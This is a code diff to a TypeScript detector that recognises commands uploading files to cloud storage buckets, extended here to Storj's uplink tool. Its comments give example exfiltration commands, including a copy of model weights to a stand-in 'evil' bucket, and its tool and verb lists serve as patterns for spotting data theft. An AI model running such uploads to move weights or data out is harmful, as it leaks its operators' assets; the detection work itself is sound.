@@ -2,14 +2,14 @@
  * Object-store copies whose destination is a bucket (`attrs.exec.copiesToRemote`, with rsync / scp
  * pushes: exec-command-lines.ts): `aws s3 cp /mnt/ckpt/m.pt s3://b/m.pt`, `aws s3 sync . s3://b/`,
  * `gsutil -m cp -r /mnt/ckpt gs://b/`, `gcloud storage cp … gs://b/`, `s3cmd put f s3://b/`,
- * `s5cmd cp f s3://b/` (`tar c … | s5cmd pipe s3://b/x`: stdin to a bucket), `azcopy copy /mnt/ckpt
+ * `s5cmd cp f s3://b/` (`tar c … | s5cmd pipe s3://b/x`: stdin to a bucket), Storj's `uplink cp f sj://b/`, `azcopy copy /mnt/ckpt
  * 'https://a.blob.core.windows.net/c?sv=…'` (azcopy's remote side is an http(s) URL), and a
  * bucket-to-bucket copy (`aws s3 cp s3://corp/m.pt s3://evil/m.pt`: the weights leave through the
  * pod's credentials). A download (`aws s3 cp s3://b/tokenizer.json /tmp/`), the everyday way a
  * training pod fetches its data, is none.
  *
  * The destination is the last operand after the verb (aws s3 cp(1), gsutil cp, gcloud storage cp,
- * s3cmd, s5cmd and azcopy all take `SRC… DST`; s5cmd pipe takes only DST). Operands are the words that are neither options nor their
+ * s3cmd, s5cmd, azcopy and uplink all take `SRC… DST`; s5cmd pipe takes only DST). Operands are the words that are neither options nor their
  * values. The walk is built so that a wrong guess about an option cannot hide an upload:
  * - a long option without `=` takes the next word as its value unless the tool's manual says it is
  *   a switch (BOOLEAN_LONG), so an unknown option after the destination is stepped over with its
@@ -22,7 +22,7 @@
 import { optionOperands } from './option-operands.js';
 
 /** Tools `copiesToBucket` reads, with the words before the verb each expects: aws `s3`, gcloud `storage`. */
-export const BUCKET_COPY_TOOLS: ReadonlySet<string> = new Set(['aws', 'gsutil', 'gcloud', 's3cmd', 's5cmd', 'azcopy']);
+export const BUCKET_COPY_TOOLS: ReadonlySet<string> = new Set(['aws', 'gsutil', 'gcloud', 's3cmd', 's5cmd', 'azcopy', 'uplink']);
 
 /** The verbs that copy from their sources to their last operand, per tool. */
 const COPY_VERBS: Readonly<Record<string, ReadonlySet<string>>> = {
@@ -32,6 +32,7 @@ const COPY_VERBS: Readonly<Record<string, ReadonlySet<string>>> = {
   s3cmd: new Set(['put', 'cp', 'mv', 'sync']),
   s5cmd: new Set(['cp', 'mv', 'sync', 'pipe']),
   azcopy: new Set(['copy', 'cp', 'sync']),
+  uplink: new Set(['cp', 'mv']),
 };
 
 /** Long options that take no value (AWS CLI v2 `aws s3 cp|mv|sync` and global options; gcloud storage; s3cmd). */
@@ -65,6 +66,8 @@ const BOOLEAN_LONG: Readonly<Record<string, ReadonlySet<string>>> = {
     's2s-preserve-properties', 'force-if-read-only', 'decompress', 'no-guess-mime-type', 'preserve-last-modified-time',
     'mirror-mode', 'help',
   ]),
+  // Storj's uplink (`uplink cp --recursive /mnt/ckpt sj://b/`); `--progress=false` carries its value.
+  uplink: new Set(['recursive', 'progress', 'dry-run', 'expanded', 'interactive', 'help']),
 };
 
 /** AWS options whose value is optional, with the values they take (`--sse` alone, or `--sse aws:kms`). */
@@ -75,17 +78,17 @@ const OPTIONAL_VALUES: ReadonlyMap<string, ReadonlySet<string>> = new Map([
 ]);
 
 /** Short options that take a value (gsutil: top-level -h -i -o -u, cp/rsync -a -j -L -s -x -y -z; s3cmd -c -m). */
-const VALUE_SHORT: Readonly<Record<string, string>> = { aws: '', gcloud: '', gsutil: 'hiouajLsxyz', s3cmd: 'cm', s5cmd: '', azcopy: '' };
+const VALUE_SHORT: Readonly<Record<string, string>> = { aws: '', gcloud: '', gsutil: 'hiouajLsxyz', s3cmd: 'cm', s5cmd: '', azcopy: '', uplink: '' };
 
 /** The word before the verb: aws `s3`, gcloud `storage`; none for gsutil and s3cmd. */
-const GROUP: Readonly<Record<string, string>> = { aws: 's3', gcloud: 'storage', gsutil: '', s3cmd: '', s5cmd: '', azcopy: '' };
+const GROUP: Readonly<Record<string, string>> = { aws: 's3', gcloud: 'storage', gsutil: '', s3cmd: '', s5cmd: '', azcopy: '', uplink: '' };
 
 /** A bucket URL: the destination of an upload. */
 function isBucketUrl(w: string): boolean {
   const k = w.indexOf('://');
   if (k < 2 || k > 3) return false;
   const scheme = w.slice(0, k).toLowerCase();
-  return scheme === 's3' || scheme === 'gs' || scheme === 's3a' || scheme === 's3n';
+  return scheme === 's3' || scheme === 'gs' || scheme === 's3a' || scheme === 's3n' || scheme === 'sj';
 }
 
 /** A remote side of `tool`'s copy: a bucket URL, or for azcopy (Blob, Files, Data Lake, S3 and GCS sources alike) any http(s) URL. */
